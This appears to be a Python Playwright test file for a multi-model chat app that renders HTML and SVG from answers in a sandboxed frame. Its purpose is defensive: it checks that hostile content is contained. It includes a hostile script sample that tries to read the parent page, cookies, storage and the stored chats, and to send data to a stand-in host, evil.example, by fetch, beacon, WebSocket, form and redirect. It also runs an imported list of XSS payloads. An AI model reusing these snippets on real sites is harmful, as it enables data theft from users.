"""Pages and drawings in answers: found in texts, shown in an isolated frame."""

from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from playwright.sync_api import Page, expect
from tests.web.conftest import Visitor
from tests.web.page_actions import send
from tests.web.payloads import PAYLOADS
from tests.web.server_process import RunningServer

from multi_llm_chat.testing.simulator import Say
from multi_llm_chat.web.artifacts import SHORTEST, CodeBlock, as_code, compare, split_artifacts
from multi_llm_chat.web.guard import POLICY

PAGE = """<!doctype html>
<html><head><title>Compound interest</title></head>
<body><h1>What your savings become</h1><p id="out">not yet</p>
<script>document.getElementById("out").textContent = "rate " + (2 + 3) + " %%";</script>
<p>%s</p></body></html>"""
DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><title>A circle</title><circle cx="50" cy="50" r="40" fill="teal"/></svg>'


def answer_with(code: str, language: str = "html") -> str:
    return f"Here it is.\n\n{as_code(code, language)}\nPlay with it."


CODE = st.text(st.characters(codec="utf-8", exclude_characters="\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029"), min_size=1).map(lambda text: f"<p>{text}</p>" + "x" * SHORTEST)  # fmt: skip


@given(st.lists(st.tuples(st.sampled_from(["html", "svg", "python", ""]), CODE), max_size=4))
def test_blocks_of_pages_and_drawings_are_found_and_the_other_words_stay(
    blocks: list[tuple[str, str]],
):
    text = "".join(f"words {at}\n\n{as_code(code, language)}\n" for at, (language, code) in enumerate(blocks)) + "end"  # fmt: skip
    pieces = split_artifacts(text)
    found = [piece for piece in pieces if isinstance(piece, CodeBlock)]
    wanted = [(language, f"{code.rstrip()}\n") for language, code in blocks if language in ("html", "svg")]  # fmt: skip
    assert [(each.language, each.code) for each in found] == wanted
    words = "".join(piece for piece in pieces if isinstance(piece, str))
    assert all(f"words {at}\n" in words for at in range(len(blocks)))
    assert words.endswith("end")


@pytest.mark.parametrize(
    "text",
    [
        "no code",
        "```html\n<b>short</b>\n```",
        f"```html\n<p>{'x' * 200}</p>\n",  # not closed
        f"```js\n<p>{'x' * 200}</p>\n```",
        f"    ```html\n    <p>{'x' * 200}</p>\n    ```",
    ],
)
def test_snippets_and_open_blocks_stay_code(text: str):
    assert split_artifacts(text) == [text]


def test_titles_and_changes():
    assert CodeBlock("html", PAGE).title == "Compound interest"
    assert CodeBlock("svg", DRAWING).title == "A circle"
    assert CodeBlock("html", "<h1>One <b>&amp;</b> two</h1>").title == "One & two"
    assert CodeBlock("html", "<p>x</p>").title == "HTML"
    assert compare("a\nb\nc", "a\nB\nc").splitlines() == ["@@ -1,3 +1,3 @@", " a", "-b", "+B", " c"]
    assert compare("same", "same") == ""


def test_an_artifact_opens_beside_the_chat_with_versions_source_and_changes(
    server: RunningServer, page: Page
):
    server.add_replies(
        "claude", Say(answer_with(PAGE % "first")), Say(answer_with(PAGE % "second"))
    )
    send(page, "@claude make a page")
    card = page.locator(".artifact")
    expect(card).to_contain_text("Compound interest")
    expect(card).to_contain_text("HTML, version 1")
    expect(page.locator(".answer:not(.live) .words").last).to_have_text("Play with it.")
    send(page, "@claude change it")
    expect(card.nth(1)).to_contain_text("version 2")
    card.nth(1).get_by_role("button", name="Open").click()
    frame = page.frame_locator("#pane iframe")
    expect(frame.locator("#out")).to_have_text("rate 5 %")  # its script ran
    expect(frame.locator("body")).to_contain_text("second")
    expect(page.locator("#pane-version")).to_have_text("2 / 2")
    expect(card.nth(1)).to_have_class("artifact open")
    page.get_by_role("button", name="Changes").click()
    expect(page.locator("#pane-changes .gi")).to_contain_text("second")
    page.get_by_role("button", name="Source").click()
    expect(page.locator("#pane-source")).to_contain_text("<!doctype html>")
    page.get_by_role("button", name="Earlier version").click()
    expect(page.locator("#pane-version")).to_have_text("1 / 2")
    page.get_by_role("button", name="Preview").click()
    expect(frame.locator("body")).to_contain_text("first")
    with page.expect_download() as saved:
        page.locator("#pane").get_by_role("button", name="Download").click()
    assert saved.value.suggested_filename == "Compound-interest.html"
    assert Path(saved.value.path()).read_text(encoding="utf-8") == PAGE % "first" + "\n"
    page.locator("#pane").get_by_role("button", name="Close").focus()
    page.keyboard.press("Escape")
    expect(page.locator("#pane")).to_be_hidden()
    expect(page.locator("#pane iframe")).to_have_count(0)
    expect(card.nth(1).get_by_role("button", name="Open")).to_be_focused()


def test_a_drawing_is_shown_and_on_a_phone_the_pane_fills_the_screen(
    server: RunningServer, page: Page
):
    server.add_replies("claude", Say(answer_with(DRAWING, "svg")))
    page.set_viewport_size({"width": 390, "height": 800})
    send(page, "@claude draw a circle")
    page.get_by_role("button", name="Open A circle").click()
    expect(page.frame_locator("#pane iframe").locator("circle")).to_be_visible()
    box = page.locator("#pane").bounding_box()
    assert box is not None
    assert (box["x"], box["width"]) == (0, 390)


ATTACK = """<title>Attack</title><p id="seen"></p><script>
const seen = [];
const attempt = (name, work) => { try { work(); seen.push(name + " done"); } catch (error) { seen.push(name + " refused"); } };
attempt("parent", () => top.document.title);
attempt("cookie", () => { if (document.cookie) throw 1; document.cookie = "a=1"; });
attempt("storage", () => localStorage.setItem("a", "b"));
attempt("top", () => { top.location = "http://evil.example/top"; });
const image = new Image(); image.src = "http://evil.example/image";
document.head.insertAdjacentHTML("beforeend", '<link rel=stylesheet href="http://evil.example/style"><link rel=prefetch href="http://evil.example/prefetch">');
document.body.insertAdjacentHTML("beforeend", '<iframe src="http://evil.example/frame"></iframe><form action="http://evil.example/form"><button></button></form>');
navigator.sendBeacon("http://evil.example/beacon");
try { document.forms[0].submit(); } catch (error) {}
open("http://evil.example/popup");
new WebSocket("ws://evil.example/socket").onerror = () => undefined;
fetch("/export").then(() => seen.push("chats read"), () => seen.push("chats refused")).then(() => fetch("http://evil.example/fetch")).then(() => seen.push("fetch done"), () => seen.push("fetch refused")).then(() => { document.getElementById("seen").textContent = seen.join(", "); });
</script>"""


def test_a_hostile_artifact_reaches_nothing(
    server: RunningServer, new_visitor: Callable[..., Visitor]
):
    visitor = new_visitor()
    page = visitor.open("/")
    server.add_replies("claude", Say(answer_with(ATTACK)))
    send(page, "@claude attack")
    page.get_by_role("button", name="Open Attack").click()
    seen = page.frame_locator("#pane iframe").locator("#seen")
    expect(seen).to_contain_text("fetch refused")
    text = seen.inner_text()
    assert "parent refused" in text
    assert "storage refused" in text
    assert "chats refused" in text
    assert len(page.context.pages) == 1
    assert page.url.startswith(server.url)
    assert page.title() != "1"
    # The browser reports what it refused; there may be no other messages.
    assert all(reported(error) for error in visitor.errors)
    visitor.errors.clear()
    # Our page's policy refuses a frame that navigates itself to another address.
    server.add_replies("claude", Say(answer_with(f'<title>Away</title><script>location = "http://evil.example/away?" + document.title</script>{"x" * SHORTEST}')))  # fmt: skip
    send(page, "@claude away")
    page.get_by_role("button", name="Open Away").click()
    expect(page.locator("#pane-title")).to_have_text("Away")
    page.wait_for_function("() => new Promise(done => setTimeout(() => done(true), 300))")
    assert all(reported(error) for error in visitor.errors)
    visitor.errors.clear()


def reported(error: str) -> bool:
    words = ("Content Security Policy", "sandbox", "Unsafe attempt", "ERR_BLOCKED", "CORS", "WebSocket", "Blocked", "net::")  # fmt: skip
    return any(word in error for word in words)


@pytest.mark.parametrize("half", range(2))
def test_payloads_in_an_artifact_change_nothing_on_the_page(
    server: RunningServer, new_visitor: Callable[..., Visitor], half: int
):
    visitor = new_visitor()
    page = visitor.open("/")
    harmful = ":is(#pane header, #pane-source, .artifact) :is(script, iframe, img, object, [style], [onerror])"  # fmt: skip
    for at in range(8 * half, len(PAYLOADS), 16):
        name = f"Payload {at}"
        code = f"<title>&lt;img src=x onerror=1&gt; {name}</title>" + "\n".join(PAYLOADS[at : at + 8]) + "x" * SHORTEST  # fmt: skip
        server.add_replies("claude", Say(answer_with(code)))
        send(page, "@claude go")
        page.locator(".artifact", has_text=name).get_by_role("button").click()
        expect(page.locator("#pane-title")).to_contain_text(name)
        page.get_by_role("button", name="Source").click()
        expect(page.locator("#pane-source")).to_contain_text(name)
        page.frames[-1].wait_for_load_state()
        assert page.locator(harmful).count() == 0
        assert page.evaluate("window.hacked") is None
        assert all(reported(error) for error in visitor.errors), visitor.errors
        visitor.errors.clear()


def test_the_document_has_a_policy_of_its_own_and_opens_in_its_frame_only(server: RunningServer):
    server.add_replies("gemini", Say(answer_with(PAGE % "x")))
    with server.signed_in_client() as client:
        client.post("/c/chat/messages", data={"text": "@gemini hi"})
        html = ""
        while "data-number" not in html:
            html = client.get("/c/chat/view").json()["html"]
        turn = html.partition('class="artifact"')[2].partition('data-turn="')[2].partition('"')[0]
        path = f"/c/chat/artifacts/{turn}/0/document"
        document = client.get(path)
        policy = document.headers["content-security-policy"]
        assert policy.startswith("sandbox allow-scripts; default-src 'none';")
        assert "connect-src" not in policy
        assert "allow-same-origin" not in policy
        assert client.get(path, headers={"sec-fetch-dest": "document"}).status_code == 403
        assert client.get(path.replace("/0/", "/7/")).status_code == 404
        page = client.get("/").headers
        assert page["content-security-policy"] == POLICY
        assert "unsafe" not in POLICY
        assert "frame-src 'self'" in POLICY


def test_the_edge_of_the_pane_is_dragged_or_moved_by_keys_and_remembered(
    server: RunningServer, page: Page
):
    server.add_replies("gemini", Say(answer_with(PAGE % "one")))
    send(page, "@gemini a page")
    page.get_by_role("button", name="Open Compound interest").click()
    edge, chat = page.get_by_role("separator", name="Width of the chat"), page.locator("#main")
    expect(edge).to_have_attribute("aria-valuenow", "468")

    def width() -> float:
        box = chat.bounding_box()
        assert box is not None
        return box["width"]

    edge.hover()  # waits until it stops moving
    box = edge.bounding_box()
    assert box is not None
    middle = box["x"] + box["width"] / 2
    page.mouse.down()
    page.mouse.move(middle + 60, 420)
    page.mouse.move(middle + 130, 400, steps=4)  # over the frame
    page.mouse.up()
    expect(edge).not_to_have_attribute("aria-valuenow", "468")
    assert abs(width() - 598) <= 6
    dragged = int(edge.get_attribute("aria-valuenow") or 0)
    page.mouse.move(300, 300)  # the button is up: nothing follows the pointer
    expect(edge).to_be_focused()
    page.keyboard.press("ArrowLeft")
    expect(edge).to_have_attribute("aria-valuenow", str(dragged - 24))
    page.keyboard.press("Shift+ArrowRight")
    expect(edge).to_have_attribute("aria-valuenow", str(dragged + 72))
    page.keyboard.press("End")
    assert width() == int(edge.get_attribute("aria-valuemax") or 0)
    page.keyboard.press("Home")
    expect(edge).to_have_attribute("aria-valuenow", "360")
    assert width() == 360
    page.reload()
    page.locator("body[data-ready]").wait_for()
    page.get_by_role("button", name="Open Compound interest").click()
    expect(edge).to_have_attribute("aria-valuenow", "360")
    assert width() == 360
    edge.dblclick()
    expect(edge).to_have_attribute("aria-valuenow", "468")
    # A narrow window has no room for both: the pane covers the chat and has no edge.
    page.set_viewport_size({"width": 1000, "height": 800})
    expect(edge).to_be_hidden()
